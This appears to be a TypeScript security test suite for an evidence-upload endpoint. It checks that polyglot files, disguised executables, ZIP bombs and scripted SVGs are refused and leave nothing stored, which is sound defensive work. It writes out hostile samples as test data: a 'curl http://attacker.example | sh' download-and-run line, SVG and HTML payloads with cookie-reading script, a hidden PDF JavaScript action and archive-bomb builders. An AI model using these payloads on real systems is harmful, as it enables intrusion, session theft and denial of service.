import { existsSync, readdirSync } from 'node:fs';
import { deflateRawSync } from 'node:zlib';

import type { FilesystemBlobStore } from '../../src/modules/storage/blob-store.js';
import { BLOB_STORE } from '../../src/modules/storage/encrypted-objects.js';

import { buildDocx, buildPdf, buildRealPdf, buildZip, fakeMedia } from '../factories/evidence-files.factory.js';
import { upload } from '../factories/evidence.factory.js';
import { addZipEntry, payloadByLabel, pdfPolyglots, readCorpus, zipPolyglots } from '../factories/evidence-polyglot.factory.js';
import { as, orgOf } from '../support/requests.js';
import { type SignedInUser, signUp } from '../support/session.js';
import { startTestApp, type TestApp } from '../support/test-app.js';

/**
 * Hostile uploads (issue 8 §7, docs/SECURITY.md "Evidence uploads", ASVS 5.2.1–5.2.3): polyglots, wrong
 * extensions, oversize and empty files, archive bombs (high ratio, overlapping entries, too many
 * parts, deep nesting, ZIP64), SVG with script. Each must be refused with a message that says what
 * was found and what to upload instead, and leave nothing behind: the evidence rows, their stored
 * bytes and the organisation's quota use are counted across the whole database before and after.
 * Evidence files are kept encrypted in the object store (the filesystem store in tests) and located by
 * evidence_objects (older ones in evidence_content), so the objects on disk are counted too.
 */
const MAX_BYTES = 2 * 1024 * 1024;

/** Patches a little-endian uint32 in a copy of `bytes`. */
function patch32(bytes: Buffer, offset: number, value: number): Buffer {
  const copy = Buffer.from(bytes);
  copy.writeUInt32LE(value, offset);
  return copy;
}

/** Offsets of every central-directory record in a ZIP. */
function centralRecords(zip: Buffer): number[] {
  const found: number[] = [];
  for (let i = 0; i + 4 <= zip.length; i += 1) if (zip.readUInt32LE(i) === 0x02014b50) found.push(i);
  return found;
}

/** A ZIP nested `depth` times inside itself, the innermost holding one text file. */
function nestedZip(depth: number): Buffer {
  let inner = buildZip([{ name: 'notes.txt', data: 'the innermost file' }]);
  for (let i = 1; i < depth; i += 1) inner = buildZip([{ name: `level-${i}.zip`, data: inner }]);
  return inner;
}

/** The polyglot at the position whose description contains `where`. */
function polyglotAt(cases: { position: string; bytes: Buffer }[], where: string): Buffer {
  const found = cases.find((c) => c.position.includes(where));
  if (!found) throw new Error(`no polyglot position ${where}`);
  return found.bytes;
}

const SVG_WITH_SCRIPT =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/api/v1/auth/me\')"><script>alert(document.cookie)</script></svg>';

interface Attack {
  name: string;
  file: () => Buffer | Promise<Buffer>;
  fileName: string;
  status: number;
  code: string;
  /** What the message must say was found. */
  says: RegExp;
}

const ATTACKS: Attack[] = [
  // Polyglots: one file, two readings.
  {
    name: 'PDF with a ZIP archive appended after %%EOF (PDF/ZIP polyglot)',
    file: async () =>
      Buffer.concat([
        await buildRealPdf(),
        buildZip([
          { name: 'payload.exe', data: fakeMedia.pe() },
          { name: 'pad.bin', data: fakeMedia.png(8192), store: true },
        ]),
      ]),
    fileName: 'policy.pdf',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /appended|ZIP|archive/i,
  },
  {
    name: 'Word document prefixed with a PDF header (ZIP/PDF polyglot)',
    file: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), buildDocx()]),
    fileName: 'policy.docx',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /PDF/,
  },
  {
    name: 'GIF with a ZIP appended (GIFAR)',
    file: () => Buffer.concat([fakeMedia.gif(), buildZip([{ name: 'Main.class', data: 'cafebabe' }])]),
    fileName: 'minutes.docx',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /GIF/i,
  },
  {
    name: 'PDF whose JavaScript action hides behind a #-escaped name (/J#61vaScript)',
    file: () => buildPdf({ catalogExtra: '/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>' }),
    fileName: 'policy.pdf',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /JavaScript/,
  },
  {
    name: 'PDF carrying an embedded file',
    file: () =>
      buildPdf({
        catalogExtra: '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>',
        extraObjects: ['<< /Type /Filespec /F (a.exe) >>'],
      }),
    fileName: 'policy.pdf',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /embedded file/i,
  },
  // Issue 20: pictures riding along outside the document's structure (a valid host each time).
  {
    name: 'LibreOffice PDF with a 1,121-byte JPEG appended after %%EOF',
    file: () => Buffer.concat([readCorpus('lo-writer-plain.pdf'), payloadByLabel('JPEG image').build(1121, 1)]),
    fileName: 'policy.pdf',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /after its end.*JPEG/,
  },
  {
    name: 'PDF with a PNG between incremental updates',
    file: () =>
      polyglotAt(pdfPolyglots(readCorpus('incremental-xref-table.pdf'), payloadByLabel('PNG image').build(2048, 2)), 'between-updates'),
    fileName: 'policy.pdf',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /not part of its objects.*PNG/,
  },
  {
    name: 'PDF with an MP4 between two of its objects (xref offsets kept right)',
    file: () =>
      polyglotAt(pdfPolyglots(readCorpus('lo-calc.pdf'), payloadByLabel('MP4/QuickTime video').build(4000, 3)), 'before object #2'),
    fileName: 'kpis.pdf',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /not part of its objects.*MP4/,
  },
  {
    name: 'small ZIP holding a JPEG',
    file: () => buildZip([{ name: 'photo.jpg', data: payloadByLabel('JPEG image').build(1121, 4), store: true }]),
    fileName: 'policy.docx',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /ZIP archive/,
  },
  {
    name: 'Word document (LibreOffice, with its logo) holding a JPEG in a gap between two entries',
    file: () =>
      polyglotAt(zipPolyglots(readCorpus('lo-writer-logo.docx'), payloadByLabel('JPEG image').build(1121, 5)), 'between entries #2'),
    fileName: 'policy.docx',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /belong to no entry.*JPEG/,
  },
  {
    name: 'Word document holding a JPEG as an extra part with a non-picture name',
    file: () => addZipEntry(readCorpus('lo-writer-logo.docx'), 'customXml/item9.xml', payloadByLabel('JPEG image').build(1121, 6)).bytes,
    fileName: 'policy.docx',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /JPEG image hidden under a name that is not a picture/,
  },
  {
    name: 'spreadsheet with a GIF in the ZIP archive comment',
    file: () => polyglotAt(zipPolyglots(readCorpus('lo-calc.xlsx'), payloadByLabel('GIF image').build(900, 7)), 'archive comment'),
    fileName: 'kpis.xlsx',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /comment/,
  },
  {
    name: 'text whose first line is ordinary and whose later lines hold <svg onload=…>',
    file: () =>
      Buffer.from(
        `Moderation runbook, revision 4\n1. Triage every report within an hour.\n\n<svg onload="fetch('/api/v1/auth/me')"><circle r="9"/></svg>\n`,
      ),
    fileName: 'runbook.txt',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /SVG/,
  },
  // Wrong extensions: the name promises a document, the bytes are something else.
  {
    name: 'Linux program named .pdf',
    file: () => fakeMedia.elf(),
    fileName: 'policy.pdf',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /program|executable|ELF/i,
  },
  {
    name: 'Windows program named .docx',
    file: () => fakeMedia.pe(),
    fileName: 'minutes.docx',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /program|executable|Windows/i,
  },
  { name: 'JPEG named .csv', file: () => fakeMedia.jpeg(), fileName: 'kpi.csv', status: 415, code: 'UNSUPPORTED_EVIDENCE', says: /JPEG/ },
  {
    name: 'shell script named .txt',
    file: () => Buffer.from('#!/bin/sh\ncurl http://attacker.example | sh\n'),
    fileName: 'notes.txt',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /script/i,
  },
  // Size.
  { name: 'empty file', file: () => Buffer.alloc(0), fileName: 'policy.pdf', status: 415, code: 'UNSUPPORTED_EVIDENCE', says: /empty/i },
  {
    name: 'file one byte over EVIDENCE_MAX_BYTES',
    file: () => Buffer.alloc(MAX_BYTES + 1, 'a'),
    fileName: 'big.txt',
    status: 413,
    code: 'PAYLOAD_TOO_LARGE',
    says: /limit/i,
  },
  // Archive bombs (office documents are ZIPs).
  {
    name: 'Word document with a 64 MB part deflated to ~64 KB (ratio bomb)',
    file: () => buildDocx([{ name: 'word/bomb.xml', data: Buffer.alloc(64 * 1024 * 1024, 0x20) }]),
    fileName: 'policy.docx',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /ZIP bomb|expands/i,
  },
  {
    name: 'Word document whose two directory entries share one compressed body (overlapping-entry bomb)',
    file: () => {
      const body = Buffer.alloc(512 * 1024, 0x41);
      const zip = buildDocx([
        { name: 'word/a.xml', data: body },
        { name: 'word/a.xml', data: body },
      ]);
      const records = centralRecords(zip);
      // Point the last entry's local-header offset at the one before it.
      const previousOffset = zip.readUInt32LE(records[records.length - 2]! + 42);
      return patch32(zip, records[records.length - 1]! + 42, previousOffset);
    },
    fileName: 'policy.docx',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /overlap|damaged|runs past|belongs to no entry/i,
  },
  {
    name: 'Word document with 6,000 parts',
    file: () => buildDocx(Array.from({ length: 6000 }, (_v, i) => ({ name: `p/${i}`, data: 'x', store: true }))),
    fileName: 'policy.docx',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /parts/,
  },
  {
    name: 'Word document holding a ZIP nested 12 levels deep',
    file: () => buildDocx([{ name: 'word/embeddings/deep.bin', data: nestedZip(12) }]),
    fileName: 'policy.docx',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /embedded object/i,
  },
  {
    name: 'Word document hiding a 12-level nested ZIP as an ordinary XML part',
    file: () => buildDocx([{ name: 'word/settings.xml', data: nestedZip(12) }]),
    fileName: 'policy.docx',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /ZIP|archive/i,
  },
  {
    name: 'Word document with a ZIP64 size marker',
    file: () => {
      const zip = buildDocx();
      const records = centralRecords(zip);
      return patch32(zip, records[0]! + 24, 0xffffffff);
    },
    fileName: 'policy.docx',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /ZIP64/,
  },
  {
    name: 'raw deflate stream of 100 MB of zeros named .txt',
    file: () => deflateRawSync(Buffer.alloc(100 * 1024 * 1024)),
    fileName: 'notes.txt',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /not a format we accept|binary/i,
  },
  // SVG with script, under every name.
  {
    name: 'SVG with <script> and onload',
    file: () => Buffer.from(SVG_WITH_SCRIPT),
    fileName: 'logo.svg',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /SVG/,
  },
  {
    name: 'SVG with script named .txt',
    file: () => Buffer.from(SVG_WITH_SCRIPT),
    fileName: 'notes.txt',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /SVG/,
  },
  {
    name: 'SVG behind an XML prolog, a comment and a byte-order mark, named .csv',
    file: () => Buffer.from(`\ufeff<?xml version="1.0"?>\n<!-- quarterly KPIs -->\n${SVG_WITH_SCRIPT}`),
    fileName: 'kpi.csv',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /SVG/,
  },
  {
    name: 'SVG inside an HTML page named .txt',
    file: () => Buffer.from(`<!doctype html><html><body>${SVG_WITH_SCRIPT}</body></html>`),
    fileName: 'runbook.txt',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /SVG/,
  },
  {
    name: 'gzip-compressed SVG (.svgz)',
    file: () => fakeMedia.gzip(),
    fileName: 'logo.svgz',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /gzip|archive/i,
  },
  {
    name: 'text carrying a base64 data: URI picture',
    file: () => Buffer.from(`Logo: data:image/png;base64,${fakeMedia.png(300).toString('base64')}\n`),
    fileName: 'notes.txt',
    status: 415,
    code: 'UNSUPPORTED_EVIDENCE',
    says: /picture|data: URI/i,
  },
];

describe('evidence: hostile uploads are refused with clear messages and leave nothing stored', () => {
  let t: TestApp;
  let owner: SignedInUser;
  let org: string;
  let refused = 0;

  beforeAll(async () => {
    t = await startTestApp({ EVIDENCE_MAX_BYTES: String(MAX_BYTES) });
    owner = await signUp(t);
    org = orgOf(owner);
  });
  afterAll(async () => {
    console.log(`upload attacks: ${refused} of ${ATTACKS.length} hostile uploads refused, nothing stored`);
    await t.close();
  });

  /** Everything an upload could leave behind, across every organisation. */
  const stored = async () =>
    (
      await t.ownerQuery<{ rows: string; contents: string; bytes: string; located: string }>(
        `SELECT (SELECT count(*) FROM evidence)::text AS rows,
                (SELECT count(*) FROM evidence_content)::text AS contents,
                (SELECT coalesce(sum(length(bytes)), 0) FROM evidence_content)::text AS bytes,
                (SELECT count(*) FROM evidence_objects)::text AS located`,
      )
    )[0]!;
  const objectsOnDisk = () => {
    const root = t.app.get<symbol, FilesystemBlobStore>(BLOB_STORE).root;
    return existsSync(root) ? readdirSync(root, { recursive: true }).length : 0;
  };

  it.each(ATTACKS.map((a) => [a.name, a] as const))('refuses %s', async (_name, attack) => {
    const before = { ...(await stored()), files: objectsOnDisk() };
    const res = await upload(t, owner, org, await attack.file(), attack.fileName);
    expect({ status: res.status, code: (res.body as { error?: { code?: string } }).error?.code }).toEqual({
      status: attack.status,
      code: attack.code,
    });
    const message = String((res.body as { error: { message: string } }).error.message);
    expect(message).toMatch(attack.says);
    // Clear means: what to do next, not only what went wrong.
    expect(message).toMatch(attack.status === 413 ? /smaller|limit/i : /Upload a PDF or office document/);
    expect({ ...(await stored()), files: objectsOnDisk() }).toEqual(before);
    refused += 1;
  });

  it('still accepts a plain document afterwards, so the refusals are about the files, not the account', async () => {
    await upload(t, owner, org, Buffer.from('Moderation runbook\n1. Triage\n'), 'runbook.txt').expect(201);
  });

  it('accepts the real documents those attacks were built from (LibreOffice PDF, docx with its logo, xlsx, incremental PDF)', async () => {
    for (const [file, mediaType] of [
      ['lo-writer-plain.pdf', 'application/pdf'],
      ['incremental-xref-table.pdf', 'application/pdf'],
      ['lo-writer-logo.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
      ['lo-calc.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
    ] as const) {
      const res = await upload(t, owner, org, readCorpus(file), file);
      expect({ file, status: res.status, mediaType: (res.body as { mediaType?: string }).mediaType }).toEqual({
        file,
        status: 201,
        mediaType,
      });
    }
  });

  it('serves HTML markup uploaded as text inert: text/plain, attachment, nosniff and a sandbox policy', async () => {
    const html = Buffer.from('<html><body><script>alert(document.cookie)</script><iframe src="/api/v1/auth/me"></iframe></body></html>\n');
    const created = await upload(t, owner, org, html, 'page.html').expect(201);
    expect(created.body).toMatchObject({ mediaType: 'text/plain', fileName: 'page.html.txt' });
    const res = await as(t, owner)
      .get(`/api/v1/orgs/${org}/evidence/${(created.body as { id: string }).id}/content`)
      .expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/plain/);
    expect(res.headers['content-disposition']).toMatch(/^attachment;/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-security-policy']).toMatch(/sandbox/);
  });
});
